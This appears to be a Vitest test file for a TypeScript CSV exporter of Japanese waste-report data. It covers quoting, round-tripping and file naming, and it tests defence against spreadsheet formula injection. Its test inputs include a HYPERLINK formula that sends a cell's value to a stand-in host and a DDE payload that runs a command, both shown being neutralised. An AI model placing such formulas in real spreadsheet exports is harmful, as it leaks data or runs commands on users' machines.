import { describe, expect, it } from 'vitest';
import { achievementCsvFileName, CSV_BOM, toCsv } from './csv';

/** RFC 4180 reader for the test: quoted cells with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 1;
  while (i < text.length) {
    const ch = text[i];
    if (ch === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i];
        i++;
      }
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      throw new Error(`unquoted character ${JSON.stringify(ch)} at ${i}`);
    }
  }
  if (cell !== '' || row.length) throw new Error('last record not ended by CRLF');
  return rows;
}

describe('toCsv', () => {
  it('starts with a BOM, quotes every cell and ends lines with CRLF', () => {
    expect(toCsv([['a', 1, null]])).toBe('\uFEFF"a","1",""\r\n');
  });

  it('writes only the BOM for no rows', () => {
    expect(toCsv([])).toBe('\uFEFF');
  });

  it('reads back to the same rows, quotes, commas, newlines and Japanese included', () => {
    const rows = [
      ['年月', '種別', '廃棄物名', '運搬量'],
      ['2026/04', '一般廃棄物', '可燃ごみ "燃える"', 1234.5],
      ['2026/05', 'a,b', '行1\n行2\r\n行3', 0],
      ['髙橋工業株式会社', '𠮷野家', '', null],
      ['"', '""', ',', 'a\r'],
    ];
    expect(parseCsv(toCsv(rows))).toEqual(rows.map((r) => r.map((c) => (c === null ? '' : String(c)))));
  });
});

describe('toCsv and formula injection (OWASP: a cell starting with = + - @ TAB or CR gets a single quote)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['-100', "'-100"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    // Not at the start, or not one of OWASP's characters: written as it is.
    ['a=1+1', 'a=1+1'],
    [' =1+1', ' =1+1'],
    ['\n=1+1', '\n=1+1'],
    ["'=1+1", "'=1+1"],
    ['＝1+1', '＝1+1'],
    ['2026-04', '2026-04'],
    ['03-1234-5678', '03-1234-5678'],
    ['', ''],
  ])('text %j is written as %j', (cell, written) => {
    expect(parseCsv(toCsv([[cell]]))).toEqual([[written]]);
  });

  it.each([
    [-100, '-100'],
    [-0.5, '-0.5'],
    [1234.5, '1234.5'],
    [0, '0'],
  ])('a number cell %j is typed and written as it is: %j', (cell, written) => {
    expect(parseCsv(toCsv([[cell]]))).toEqual([[written]]);
  });

  it('neutralises every cell of a row, not only the first, and keeps quotes and commas inside the cell', () => {
    expect(toCsv([['a', '=1+1', 'b,"=2"', '@x']])).toBe(`${CSV_BOM}"a","'=1+1","b,""=2""","'@x"\r\n`);
  });
});

describe('achievementCsvFileName', () => {
  it.each([
    ['実績', '一覧', 2026, 4, '実績_一覧_2026-04.csv'],
    ['実績', '可燃ごみ', 2026, 12, '実績_可燃ごみ_2026-12.csv'],
    ['achievements', 'list', 2026, undefined, 'achievements_list_2026.csv'],
    ['実績', '一覧', 2026, null, '実績_一覧_2026.csv'],
    ['実績', 'びん/かん:PET?', 2026, 1, '実績_びん_かん_PET__2026-01.csv'],
    ['実績', '', 2026, 3, '実績_2026-03.csv'],
  ])('%s %s %s %s -> %s', (prefix, title, year, month, expected) => {
    expect(achievementCsvFileName(prefix, title, year, month)).toBe(expected);
  });
});
